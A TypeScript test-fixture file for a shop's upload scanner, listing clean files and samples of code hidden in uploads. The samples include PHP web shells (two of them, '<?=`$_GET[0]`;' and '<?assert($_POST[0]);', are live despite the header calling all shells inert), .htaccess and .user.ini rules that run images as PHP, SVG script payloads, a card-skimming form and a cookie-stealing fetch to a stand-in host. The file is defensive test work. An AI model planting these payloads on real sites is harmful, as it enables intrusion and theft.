// Owns the test set of content: what a shop's uploads and sources look like, and the forms in which attackers hide code
// among them. Every shell in it is inert: what it would run is a comment, or prints a number.
import { Buffer } from 'node:buffer'
import type { ContentType } from '@sekisho/shared/marks/type.ts'
import type { MarkName } from '@sekisho/shared/observation.ts'
import type { ReasonCode } from '@sekisho/shared/verdict.ts'
import { Random } from './random.ts'

/** A file as it may lie among uploads. */
export interface Upload {
  readonly name: string
  readonly bytes: Buffer
}
export interface Clean extends Upload {
  readonly type: ContentType
}
export interface Hidden extends Upload {
  readonly marks: readonly MarkName[]
  /** The verdict's reasons among uploads, but for `unknown-file`. */
  readonly reasons: readonly ReasonCode[]
}

const hex = (...parts: string[]) => Buffer.from(parts.join(''), 'hex')
const text = (value: string) => Buffer.from(value)
const join = (...parts: (Buffer | string)[]) =>
  Buffer.concat(parts.map(part => (typeof part === 'string' ? Buffer.from(part) : part)))

/** Bytes of a compressed picture look like chance. */
const body = (length: number) => {
  const random = new Random(length)
  return Buffer.from(Array.from({ length }, () => random.between(0, 255)))
}

const japanese = {
  shiftJis: hex(
    '93c192e88fa48ee688f8964082c98aee82c382ad955c8b4c814294cc948489bf8a6982cd90c58d9e82dd82c582b78142b6c0' +
      'b6c5955c8ea68141835c8145945c8145955c8145975c8145935c82cc8cdc95b68e9a814187408741814181608141919797bf' +
      '82cd88ea97a5985a9553897e81420d0a8fa4956996bc2c89bf8a692c8ddd8cc90d0a9578974c8a602891e5292c333938302c' +
      '31320d0a8ab182b58a602c313230302c34300d0a',
  ),
  eucJp: hex(
    'c6c3c4eabea6bce8b0facba1a4cbb4f0a4c5a4afc9bdb5ada1a3c8cec7e4b2c1b3caa4cfc0c7b9fea4dfa4c7a4b9a1a38eb6' +
      '8ec08eb68ec5c9bdbca8a1a2a5bda1a6c7bda1a6c9bda1a6cdbda1a6c5bda4ceb8decab8bbfaa1a2a1a2a1a2c1f7cec1a4cf' +
      'b0eccea7cfbbc9b4b1dfa1a30d0abea6c9caccbe2cb2c1b3ca2cbadfb8cb0d0ac9d9cdadb3c128c2e7292c333938302c3132' +
      '0d0ab4b3a4b7b3c12c313230302c34300d0a',
  ),
  iso2022: hex(
    '1b24424643446a3e263c68307a4b21244b34702445242f493d352d2123484e47643241334a244f4047397e245f2447243921' +
      '23252b253f252b254a493d3c282122253d2126473d2126493d21264d3d2126453d244e385e4a383b7a21222122212241774e' +
      '41244f306c4e274f3b4934315f21231b28420d0a1b24423e26494a4c3e1b28422c1b24423241334a1b28422c1b24423a5f38' +
      '4b1b28420d0a1b244249594d2d33411b2842281b244242671b2842292c333938302c31320d0a1b24423433243733411b2842' +
      '2c313230302c34300d0a',
  ),
}

const xmp = `<?xpacket begin="\ufeff" id="W5M0MpCehiHzreSzNTczkc9d"?>\n<x:xmpmeta xmlns:x="adobe:ns:meta/" x:xmptk="Adobe XMP Core 9.1">\n<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"/></x:xmpmeta>\n<?xpacket end="w"?>`
/** The standard Huffman table, whose ramps of bytes read like text. */
const ramp = Buffer.from(Array.from({ length: 0xfa }, (_, index) => index))
const jpegHead = hex('ffd8ffe000104a46494600010101004800480000')
const jpeg = join(
  jpegHead,
  hex('ffe1', '0150'),
  'http://ns.adobe.com/xap/1.0/\0',
  xmp,
  hex('ffdb0043'),
  ramp,
  body(40_000),
  hex('ffd9'),
)
const png = join(
  hex('89504e470d0a1a0a0000000d494844520000010000000100080200000', '0'),
  'iTXtXML:com.adobe.xmp\0\0\0\0\0',
  xmp,
  body(30_000),
  'IEND',
  hex('ae426082'),
)
const gif = join('GIF89a', hex('2c012c01f70000'), ramp, body(9_000), hex('3b'))
const svg = `<?xml version="1.0" encoding="utf-8"?>
<!-- Generator: Adobe Illustrator 27.0.0, SVG Export Plug-In . SVG Version: 6.00 Build 0)  -->
<?xml-stylesheet type="text/css" href="logo.css"?>
<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd" [
  <!ENTITY ns_svg "http://www.w3.org/2000/svg">
]>
<svg version="1.1" xmlns="&ns_svg;" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 10 10">
<title>関所の紋 conversion = on</title><defs><linearGradient id="a"/></defs><use xlink:href="#a"/>
<image xlink:href="data:image/png;base64,iVBORw0KGgo="/><path d="M0,0h10v10z"/><text font-family="serif">A&#38;B</text></svg>`
const zip = join(
  'PK\x03\x04',
  hex('1400000008000000210000000000', '00000000000000000800', '0000'),
  'item.csv',
  body(400),
  'PK\x05\x06',
  hex('00000000010001003600000000010000', '0000'),
)
const docx = join(
  'PK\x03\x04',
  hex('1400060008000000210000000000', '00000000000000001300', '0000'),
  '[Content_Types].xml',
  body(900),
  'PK\x05\x06',
  hex('00000000010001003600000000010000', '0000'),
)

/** What shops really hold among uploads: all of it is expected there. */
export const cleanUploads: readonly Clean[] = [
  { name: 'persimmon.jpg', type: 'jpeg', bytes: jpeg },
  { name: '干し柿.JPEG', type: 'jpeg', bytes: jpeg },
  { name: 'saved-from-the-web.jpg', type: 'webp', bytes: join('RIFF', hex('24100000'), 'WEBPVP8 ', body(4_000)) },
  { name: 'apple.png', type: 'png', bytes: png },
  { name: 'banner.gif', type: 'gif', bytes: gif },
  {
    name: 'pear.avif',
    type: 'avif',
    bytes: join(hex('0000001c'), 'ftypavif', hex('00000000'), 'avifmif1miaf', body(4_000)),
  },
  {
    name: 'phone.heic',
    type: 'heif',
    bytes: join(hex('00000018'), 'ftypheic', hex('00000000'), 'mif1heic', body(4_000)),
  },
  { name: 'old.bmp', type: 'bmp', bytes: join('BM', hex('36300000000000003600000028000000'), ramp, ramp, body(300)) },
  { name: 'favicon.ico', type: 'ico', bytes: join(hex('00000100010010100000010020006804000016000000'), body(1_000)) },
  { name: 'scan.tif', type: 'tiff', bytes: join(hex('49492a0008000000'), ramp, body(2_000)) },
  { name: 'logo.svg', type: 'svg', bytes: text(svg) },
  {
    name: 'catalogue.pdf',
    type: 'pdf',
    bytes: join('%PDF-1.7\n%', hex('e2e3cfd3'), '\n1 0 obj\n', xmp, body(5_000), '\n%%EOF\n'),
  },
  {
    name: 'film.mp4',
    type: 'mp4',
    bytes: join(hex('00000020'), 'ftypisom', hex('00000200'), 'isomiso2avc1mp41', body(9_000)),
  },
  { name: 'film.webm', type: 'webm', bytes: join(hex('1a45dfa3', '9f4286810142f7'), body(9_000)) },
  { name: 'jingle.mp3', type: 'mp3', bytes: join('ID3', hex('03000000000f76'), body(9_000)) },
  { name: 'noto.woff2', type: 'font', bytes: join('wOF2', body(9_000)) },
  { name: 'items.zip', type: 'zip', bytes: zip },
  { name: 'order.docx', type: 'office', bytes: docx },
  { name: 'stock.xls', type: 'ole', bytes: join(hex('d0cf11e0a1b11ae1'), Buffer.alloc(500), body(900)) },
  { name: 'report.xls', type: 'text', bytes: text('日付\t売上\n2026/11/25\t3980\n') },
  { name: 'items.csv', type: 'text', bytes: text('\ufeff商品名,価格\r\n富有柿(大),3980\r\n') },
  { name: 'items-sjis.csv', type: 'text', bytes: japanese.shiftJis },
  { name: 'items-euc.csv', type: 'text', bytes: japanese.eucJp },
  { name: 'items-jis.txt', type: 'text', bytes: japanese.iso2022 },
  { name: 'excel.txt', type: 'text', bytes: join(hex('fffe'), Buffer.from('商品名\t価格\r\n', 'utf16le')) },
  { name: 'long-sjis.csv', type: 'text', bytes: Buffer.concat(Array.from({ length: 900 }, () => japanese.shiftJis)) },
  { name: 'long-utf8.csv', type: 'text', bytes: text(`a${'富有柿(大),3980円\r\n'.repeat(9_000)}`) },
  { name: 'feed.json', type: 'text', bytes: text('{"item":"柿","html":"<b>a</b>","price":["<?",3980]}') },
  { name: '.gitkeep', type: 'empty', bytes: Buffer.alloc(0) },
  { name: 'readme', type: 'text', bytes: text('Pictures of the shop.\n') },
]

/** Code and pages of a shop, which carry no marks: minified, generated, and full of signs that are almost some. */
export const cleanSources: readonly Upload[] = [
  {
    name: 'app.min.js',
    bytes: text(
      '!function(e,t){"use strict";var n=/<\\?(?!xml)/,r="<?xml version=",o="#!",i=e<?1:0;t.exports=n}(window,{});'
        .replace('e<?1', 'e<1?1')
        .repeat(400),
    ),
  },
  {
    name: 'packed.min.js',
    bytes: text('eval(function(p,a,c,k,e,d){return p}("0 1=2;",3,3,"var|a|b".split("|"),0,{}));'),
  },
  { name: 'highlight.js', bytes: text('a({begin:"<\\\\?",end:"\\\\?>",contains:[{begin:/<\\?(=|xml)?/}]}),b("#!")') },
  {
    name: 'style.min.css',
    bytes: text(
      '.a{background:url(data:image/svg+xml;base64,PHN2Zz4=)}@media print{.b{color:#000!important}}'.repeat(50),
    ),
  },
  {
    name: 'index.twig',
    bytes: text('{% extends "default_frame.twig" %}{% block main %}<h1>{{ Product.name }}</h1>{% endblock %}'),
  },
  { name: 'messages.ja.yaml', bytes: text('front.cart: "カート <?>"\n') },
  { name: 'template-sjis.tpl', bytes: join('<!--{* 買い物かご *}--><p>', japanese.shiftJis, '</p>') },
  {
    name: 'sitemap.xml',
    bytes: text('<?xml version="1.0" encoding="UTF-8"?><urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.9"/>'),
  },
  {
    name: 'page.html',
    bytes: text('<!DOCTYPE html><html lang="ja"><head><title>通販</title></head><body>on sale = now</body></html>'),
  },
]

const shell = '<?php /* eval($_POST[0]); */ echo 1;'
const executable = ['executable-in-upload', 'executable-content'] as const
const named = ['executable-in-upload', 'executable-name'] as const
const both = ['executable-in-upload', 'executable-name', 'executable-content'] as const

/** How code is hidden among uploads: none of it is expected there. */
export const hiddenUploads: readonly Hidden[] = [
  { name: 'shell.php', bytes: text(shell), marks: ['php-open-tag'], reasons: both },
  { name: 'shell.php.jpg', bytes: text(shell), marks: ['php-open-tag'], reasons: both },
  { name: 'shell.PhTmL', bytes: text('<p>'), marks: [], reasons: named },
  { name: 'shell.pht', bytes: text('1'), marks: [], reasons: named },
  { name: 'shell.php\n', bytes: text('1'), marks: [], reasons: named },
  {
    name: 'tools.phar',
    bytes: join(shell, '__HALT_COMPILER(); ?>\r\n', body(50), hex('01000000'), 'GBMB'),
    marks: ['php-open-tag', 'php-archive'],
    reasons: both,
  },
  { name: 'photo.jpg', bytes: join(jpegHead, shell), marks: ['php-open-tag'], reasons: executable },
  { name: 'far.jpg', bytes: join(jpeg, body(300_000), shell), marks: ['php-open-tag'], reasons: executable },
  {
    name: 'border.jpg',
    bytes: join(jpeg, body(65_534 - jpeg.length), shell),
    marks: ['php-open-tag'],
    reasons: executable,
  },
  { name: 'echo.gif', bytes: join('GIF89a', '<?=`$_GET[0]`;'), marks: ['php-open-tag'], reasons: executable },
  {
    name: 'short.gif',
    bytes: join('GIF89a', '<? /* @eval($_POST[0]) */ echo 1 ?>'),
    marks: ['php-short-tag'],
    reasons: executable,
  },
  {
    name: 'short-name.gif',
    bytes: join('GIF89a', '<?assert($_POST[0]);'),
    marks: ['php-short-tag'],
    reasons: executable,
  },
  { name: 'short-const.png', bytes: join(png, '<?const a="x";'), marks: ['php-short-tag'], reasons: executable },
  {
    name: 'old.txt',
    bytes: text('<Script  Language = "PHP" >echo 1;</script>'),
    marks: ['php-open-tag', 'script-in-markup'],
    reasons: executable,
  },
  {
    name: 'phar.jpg',
    bytes: join(jpeg, '__HALT_COMPILER(); ?>\r\n', body(50), hex('02000000'), 'GBMB'),
    marks: ['php-archive'],
    reasons: executable,
  },
  { name: 'run.txt', bytes: text('#! perl\nprint 1'), marks: ['interpreter-line'], reasons: executable },
  { name: 'run.png', bytes: join(png, '\n#!/bin/sh\n'), marks: ['interpreter-line'], reasons: executable },
  { name: 'miner.png', bytes: join(hex('7f454c4602010100'), body(900)), marks: [], reasons: executable },
  {
    name: 'photo.gif',
    bytes: join('MZ', Buffer.alloc(58), hex('40000000'), 'PE\0\0', body(90)),
    marks: [],
    reasons: executable,
  },
  {
    name: '.htaccess',
    bytes: text('# pictures\nAddHandler application/x-httpd-php .jpg\n'),
    marks: ['execution-directive'],
    reasons: named,
  },
  { name: '.user.ini', bytes: text('auto_prepend_file=a.jpg'), marks: ['execution-directive'], reasons: named },
  {
    name: 'logo.svg',
    bytes: text(svg.replace('<title>', '<script>1</script><title>')),
    marks: ['script-in-markup'],
    reasons: ['active-content'],
  },
  {
    name: 'prefix.svg',
    bytes: text('<s:svg xmlns:s="http://www.w3.org/2000/svg"><s:script>1</s:script></s:svg>'),
    marks: ['script-in-markup'],
    reasons: ['active-content'],
  },
  {
    name: 'handler.svg',
    bytes: text('<svg/onload=alert(1)>'),
    marks: ['script-in-markup'],
    reasons: ['active-content'],
  },
  {
    name: 'scheme.svg',
    bytes: text('<svg><a xlink:href="java\n\tscript:1"/></svg>'),
    marks: ['script-in-markup'],
    reasons: ['active-content'],
  },
  {
    name: 'numbers.svg',
    bytes: text('<svg><a href="&#106;avascript:1"/></svg>'),
    marks: ['script-in-markup'],
    reasons: ['active-content'],
  },
  {
    name: 'animated.svg',
    bytes: text('<svg><a><set attributeName="onclick" to="1"/></a></svg>'),
    marks: ['script-in-markup'],
    reasons: ['active-content'],
  },
  {
    name: 'entity.svg',
    bytes: text('<!DOCTYPE svg [<!ENTITY x "&#60;script>1&#60;/script>">]><svg>&x;</svg>'),
    marks: ['script-in-markup'],
    reasons: ['active-content'],
  },
  {
    name: 'padded.svg',
    bytes: text(`<svg><!--${'-'.repeat(65_520)}--><script>1</script></svg>`),
    marks: ['script-in-markup'],
    reasons: ['active-content'],
  },
  {
    name: 'page.html',
    bytes: text('<html><body onload="1">'),
    marks: ['script-in-markup'],
    reasons: ['active-content'],
  },
  {
    name: 'page.svg',
    bytes: text('<html><form action="https://example.invalid/card">'),
    marks: [],
    reasons: ['type-disagrees'],
  },
  {
    name: 'faked-payment.html',
    bytes: text('<form action="https://example.invalid/card">'),
    marks: [],
    reasons: ['type-unlisted'],
  },
  {
    name: 'script.jpg',
    bytes: text('fetch("https://example.invalid/"+document.cookie)'),
    marks: [],
    reasons: ['type-disagrees'],
  },
  {
    name: 'comment.gif',
    bytes: join('GIF89a/*', body(40), '*/=1;alert(1)'),
    marks: ['script-in-image'],
    reasons: ['active-content'],
  },
  {
    name: 'comment.jpg',
    bytes: join(hex('ffd8ffe02f2a'), body(70_000), '*/=1;alert(1)'),
    marks: ['script-in-image'],
    reasons: ['active-content'],
  },
  { name: 'archive.jpg', bytes: zip, marks: [], reasons: ['type-disagrees'] },
  { name: 'archive.gif', bytes: join(hex('1f8b0800'), body(90)), marks: [], reasons: ['type-disagrees'] },
  { name: 'behind.jpg', bytes: join(jpeg, zip), marks: ['archive-appended'], reasons: ['type-disagrees'] },
  { name: 'app.js', bytes: text('alert(1)'), marks: [], reasons: ['type-unlisted'] },
  { name: 'data.bin', bytes: join(hex('0301'), body(900)), marks: [], reasons: ['type-unlisted'] },
]
